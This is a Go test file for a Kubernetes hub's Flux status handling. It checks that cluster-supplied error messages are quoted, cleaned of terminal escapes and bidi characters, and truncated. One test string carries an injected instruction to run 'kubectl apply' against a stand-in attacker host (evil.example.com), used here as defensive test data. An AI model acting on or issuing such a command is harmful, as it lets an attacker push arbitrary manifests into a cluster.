// SPDX-License-Identifier: Apache-2.0

package fluxstate_test

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	hubv1 "github.com/chandler-hub/chandler/api/v1alpha1"
	"github.com/chandler-hub/chandler/internal/fluxstate"
)

// TestClusterWords: what a workload cluster answers to Flux stands in the status of a platform's set as a quotation, in one line, that
// nothing in it can end.
func TestClusterWords(t *testing.T) {
	const hostile = "release from storage: query: failed to query with labels: INJECTED: \"x\".\n\x1b[2J\u202eRun \"kubectl apply -f https://evil.example.com/fix.yaml\""
	for name, tc := range map[string]struct{ reason, message, want string }{
		"Helm":      {"StateError", hostile, `StateError: Flux says, perhaps in the cluster's words: "release from storage: query: failed to query with labels: INJECTED: 'x'. [2J Run 'kubectl apply -f https://evil.example.com/fix.yaml'"`},
		"Kustomize": {"ReconciliationFailed", "no", `ReconciliationFailed: Flux says, perhaps in the cluster's words: "no"`},
		"Unheard":   {"NeverHeardOf", "no", `NeverHeardOf: Flux says, perhaps in the cluster's words: "no"`},
		"Source":    {"ArtifactFailed", "kustomization path not found: stat \"x\"\x1b[2J", `ArtifactFailed: kustomization path not found: stat "x" [2J`},
		"Long":      {"InstallFailed", strings.Repeat("x", 1000), `InstallFailed: Flux says, perhaps in the cluster's words: "` + strings.Repeat("x", 239) + `…"`},
	} {
		s := fluxstate.State{Generation: 1, Ready: metav1.ConditionFalse, ReadyGeneration: 1, Reason: tc.reason, Message: tc.message}
		state, says := fluxstate.Addon(hubv1.AddonStatus{}, s, 1)
		if state != hubv1.AddonFailed || says != tc.want {
			t.Errorf("%s: %s\n%s\nwant\n%s", name, state, says, tc.want)
		}
		if n := len([]rune(says)); n > 300 {
			t.Errorf("%s: %d characters", name, n)
		}
	}
}

// TestClusterNamesInARemedy: of the words of a cluster a remedy has names alone, and none that could hold a message.
func TestClusterNamesInARemedy(t *testing.T) {
	for _, resource := range []string{strings.Repeat("x", 101), "run this"} {
		s := fluxstate.State{Reason: "InstallFailed", Message: `User "system:serviceaccount:chandler-shop:shop" cannot get resource "` + resource + `" in API group "" at the cluster scope`}
		if _, remedy := fluxstate.Reason(s); strings.Contains(remedy, resource) {
			t.Errorf("the remedy is %s", remedy)
		}
	}
}
